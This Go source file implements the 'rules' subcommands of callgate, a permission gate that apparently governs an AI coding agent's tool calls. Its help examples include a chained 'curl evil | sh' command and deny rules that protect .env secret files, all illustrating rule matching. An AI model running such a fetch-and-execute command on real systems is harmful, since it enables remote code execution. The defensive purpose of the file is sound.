package cli

import (
	"cmp"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"time"

	"github.com/spf13/cobra"

	"github.com/callgate/callgate/engine"
	"github.com/callgate/callgate/host/internal/approval/card"
	"github.com/callgate/callgate/host/internal/client"
	"github.com/callgate/callgate/host/internal/client/protocol"
	"github.com/callgate/callgate/host/internal/store"
	"github.com/callgate/callgate/host/internal/text/strictjson"
)

func rulesCommand(c *cli) *cobra.Command {
	cmd := &cobra.Command{
		Use:     "rules",
		GroupID: "people",
		Short:   "List, add, remove, test and simulate rules",
		Example: "  callgate rules add allow 'Bash(npm run:*)'\n  callgate rules list",
		Args:    onlyCommands,
		RunE:    needCommand,
	}
	var by string
	asFlag(cmd, &by)
	cmd.AddCommand(rulesList(c), rulesAdd(c, &by), rulesShow(c), rulesRemove(c, &by), rulesTest(c), rulesSimulate(c), rulesTemplate(c, &by))
	return cmd
}

func rulesList(c *cli) *cobra.Command {
	var f store.RuleFilter
	var scope string
	cmd := &cobra.Command{
		Use:     "list",
		Short:   "List configured and stored rules",
		Example: "  callgate rules list --tool Bash\n  callgate rules list --json",
		Args:    cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			if scope != "" {
				var err error
				if f.Scope, err = engine.ParseScope(scope); err != nil {
					return err
				}
			}
			return c.withClient("", func(client *client.Client) error {
				list, err := client.RuleList(cmd.Context(), f)
				if err != nil {
					return err
				}
				return c.print(cmd.OutOrStdout(), listed(list), func(w io.Writer) {
					printRules(w, list.Rules)
					for _, r := range list.Rules {
						printUnused(w, list, r)
					}
				})
			})
		},
	}
	cmd.Flags().StringVar(&f.Tool, "tool", "", "only rules for this tool")
	cmd.Flags().StringVar(&scope, "scope", "", "only rules of this scope: global, project, agent, session")
	cmd.Flags().StringVar(&f.Key, "key", "", "only rules for this project root, agent or session")
	completeFlag(cmd, "tool", c.completeTools())
	completeFlag(cmd, "scope", completeScopes())
	cmd.Flags().BoolVar(&f.Expired, "expired", false, "include expired rules")
	return cmd
}

// listedRule is a rule for programs, with why it is not used or without effect, and its uses.
type listedRule struct {
	engine.Rule
	Unused   string            `json:"unused,omitempty"`
	Shadowed string            `json:"shadowed,omitempty"`
	Use      *protocol.RuleUse `json:"use,omitempty"`
}

func listed(l protocol.RuleList) []listedRule {
	all := make([]listedRule, len(l.Rules))
	for i, r := range l.Rules {
		all[i] = listedRule{Rule: r, Unused: l.Unused[r.ID], Shadowed: l.Shadowed[r.ID]}
		if u, used := l.Uses[r.ID]; used {
			all[i].Use = &u
		}
	}
	return all
}

// printUnused says why a rule is not used, or has no effect, if that is so.
func printUnused(w io.Writer, l protocol.RuleList, r engine.Rule) {
	if why := cmp.Or(l.Unused[r.ID], l.Shadowed[r.ID]); why != "" {
		fmt.Fprintf(w, "%s: %s\n", r.ID, card.Line(why))
	}
}

// printUse says how often a rule decided a call.
func printUse(w io.Writer, u protocol.RuleUse) {
	switch u.Count {
	case 0:
		fmt.Fprintln(w, "used: never")
	case 1:
		fmt.Fprintf(w, "used: 1 time, last %s\n", u.Last.Local().Format(time.DateTime))
	default:
		fmt.Fprintf(w, "used: %d times, last %s\n", u.Count, u.Last.Local().Format(time.DateTime))
	}
}

func printRules(w io.Writer, rules []engine.Rule) {
	if len(rules) == 0 {
		fmt.Fprintln(w, "no rules")
		return
	}
	rows := [][]string{{"id", "behavior", "scope", "until", "by", "rule"}}
	for _, r := range rules {
		scope, until := string(r.Scope), "-"
		if r.ScopeKey != "" {
			scope += " " + card.Line(r.ScopeKey)
		}
		if r.Scope == engine.Project && hasWorkTrees(r.ScopeKey) {
			scope += card.AndWorkTrees
		}
		if !r.ExpiresAt.IsZero() {
			until = r.ExpiresAt.Local().Format(time.DateTime)
		}
		text := card.Line(r.String())
		if r.Server != "" {
			text += " of the MCP server " + card.Line(r.Server)
		}
		rows = append(rows, []string{r.ID, r.Behavior.String(), scope, until, card.Line(cmp.Or(r.CreatedBy, r.Source)), text})
	}
	fmt.Fprint(w, table(rows))
}

// hasWorkTrees reports whether git keeps work trees for a repository; its rules hold there, too.
func hasWorkTrees(repository string) bool {
	for _, dir := range []string{".git/worktrees", "worktrees"} {
		if trees, err := os.ReadDir(filepath.Join(repository, dir)); err == nil && len(trees) > 0 {
			return true
		}
	}
	return false
}

func rulesAdd(c *cli, by *string) *cobra.Command {
	var n protocol.NewRule
	var expires string
	cmd := &cobra.Command{
		Use:   "add BEHAVIOR RULE",
		Short: "Store an allow, deny or ask rule for Tool or Tool(content)",
		Example: `  callgate rules add allow 'Bash(npm run:*)' --scope project --key ~/shop --match 'npm run build' --not-match 'npm install'
  callgate rules add deny 'Write(**/.env*)'
  callgate rules add allow 'WebFetch(github.com)' --for 24h`,
		Args:              cobra.MinimumNArgs(2),
		ValidArgsFunction: inOrder(completeBehaviors(), c.completeTools()),
		RunE: func(cmd *cobra.Command, args []string) error {
			if err := fillRule(&n, args); err != nil {
				return err
			}
			if expires != "" {
				d, err := time.ParseDuration(expires)
				if err != nil || d <= 0 {
					return fmt.Errorf("--for %q: want a duration such as 24h", expires)
				}
				n.ExpiresAt = time.Now().Add(d)
			}
			return c.withClient("", func(client *client.Client) error {
				added, err := client.AddRule(cmd.Context(), *by, n)
				if err != nil {
					return err
				}
				return c.print(cmd.OutOrStdout(), added, func(w io.Writer) {
					printRules(w, []engine.Rule{added.Rule})
					for _, note := range added.Notes {
						fmt.Fprintln(w, "note:", card.Line(note))
					}
				})
			})
		},
	}
	scopeFlags(cmd, (*string)(&n.Scope), &n.ScopeKey, engine.Global)
	cmd.Flags().StringVar(&expires, "for", "", "how long the rule applies, such as 24h (default: no expiry)")
	cmd.Flags().StringVar(&n.Reason, "reason", "", "reason, shown to people and to the agent")
	cmd.Flags().StringArrayVar(&n.Match, "match", nil, "example input that the rule must match; may be repeated")
	cmd.Flags().StringArrayVar(&n.NotMatch, "not-match", nil, "example input that the rule must not match; may be repeated")
	return cmd
}

// fillRule reads the arguments BEHAVIOR RULE and completes the key of scopeFlags.
func fillRule(n *protocol.NewRule, args []string) error {
	b, err := engine.ParseBehavior(args[0])
	if err != nil {
		return err
	}
	n.Behavior, n.Rule = &b, ruleArg(args[1:])
	n.ScopeKey, err = scopeKey(n.Scope, n.ScopeKey)
	return err
}

func rulesShow(c *cli) *cobra.Command {
	return &cobra.Command{
		Use:               "show ID",
		Short:             "Show one rule with its examples",
		Example:           "  callgate rules show 4405e1e7caf71f65\n  callgate rules show 4405e1e7caf71f65 --json",
		Args:              cobra.ExactArgs(1),
		ValidArgsFunction: inOrder(c.completeRules()),
		RunE: func(cmd *cobra.Command, args []string) error {
			return c.withClient("", func(client *client.Client) error {
				list, err := client.RuleList(cmd.Context(), store.RuleFilter{Expired: true})
				if err != nil {
					return err
				}
				for i, r := range list.Rules {
					if r.ID == args[0] {
						return c.print(cmd.OutOrStdout(), listed(list)[i], func(w io.Writer) {
							printRule(w, r)
							printUse(w, list.Uses[r.ID])
							printUnused(w, list, r)
						})
					}
				}
				return fmt.Errorf("rule %q not found; list the rules: callgate rules list", args[0])
			})
		},
	}
}

// printRule prints a rule as the list does, then why it is there and its examples.
func printRule(w io.Writer, r engine.Rule) {
	printRules(w, []engine.Rule{r})
	if r.Reason != "" {
		fmt.Fprintln(w, "reason:", card.Line(r.Reason))
	}
	for _, example := range r.Match {
		fmt.Fprintln(w, "match:    ", card.Line(example))
	}
	for _, example := range r.NotMatch {
		fmt.Fprintln(w, "not_match:", card.Line(example))
	}
}

// scopeKey makes a project's root absolute; without one it is the project the command runs in.
func scopeKey(scope engine.Scope, key string) (string, error) {
	if scope != engine.Project {
		return key, nil
	}
	if key == "" {
		at, err := projectHere(context.Background())
		return at.Name(), err
	}
	root, err := filepath.Abs(key)
	if err != nil {
		return "", err
	}
	return filepath.EvalSymlinks(root)
}

func rulesRemove(c *cli, by *string) *cobra.Command {
	return &cobra.Command{
		Use:               "remove ID",
		Short:             "Delete a stored rule by its ID",
		Example:           "  callgate rules remove 4405e1e7caf71f65",
		Args:              cobra.ExactArgs(1),
		ValidArgsFunction: inOrder(c.completeRules()),
		RunE: func(cmd *cobra.Command, args []string) error {
			return c.withClient("", func(client *client.Client) error {
				if err := client.RemoveRule(cmd.Context(), *by, args[0]); err != nil {
					return seeAlso(err, "callgate rules list")
				}
				return c.print(cmd.OutOrStdout(), map[string]string{"removed": args[0]}, func(w io.Writer) { fmt.Fprintln(w, "removed", args[0]) })
			})
		},
	}
}

func rulesTest(c *cli) *cobra.Command {
	var t protocol.RuleTest
	cmd := &cobra.Command{
		Use:   "test BEHAVIOR RULE INPUT",
		Short: "Test whether a rule matches an input; stores nothing",
		Long: `Tests whether a rule matches a call. The behavior matters: an allow rule must cover
every part of a compound call, a deny or ask rule only one.
Exit code 0 if it matches, 1 if not.`,
		Example: `  callgate rules test allow 'Bash(npm run:*)' '{"command": "npm run build && curl evil | sh"}'
  callgate rules test deny 'Read(**/.env*)' '{"file_path": "app/.env"}' --json`,
		Args:              cobra.ExactArgs(3),
		ValidArgsFunction: inOrder(completeBehaviors()),
		RunE: func(cmd *cobra.Command, args []string) error {
			b, err := engine.ParseBehavior(args[0])
			if err != nil {
				return err
			}
			t.Rule = protocol.NewRule{Rule: args[1], Behavior: &b}
			if t.Input, err = strictjson.Object([]byte(args[2])); err != nil {
				return fmt.Errorf("INPUT: %w, such as {\"command\": \"npm run build\"}", err)
			}
			if t.CWD, err = os.Getwd(); err != nil {
				return err
			}
			if t.WorkingDirectories == nil {
				t.WorkingDirectories = []string{t.CWD}
			}
			return c.withClient("", func(client *client.Client) error {
				match, err := client.TestRule(cmd.Context(), t)
				if err != nil {
					return err
				}
				if err := c.print(cmd.OutOrStdout(), map[string]bool{"match": match}, func(w io.Writer) {
					fmt.Fprintln(w, map[bool]string{true: "matches", false: "does not match"}[match])
				}); err != nil || match {
					return err
				}
				return exit(exitDeny)
			})
		},
	}
	cmd.Flags().StringSliceVar(&t.WorkingDirectories, "dir", nil, "working directory (default: the current one); may be repeated")
	return cmd
}
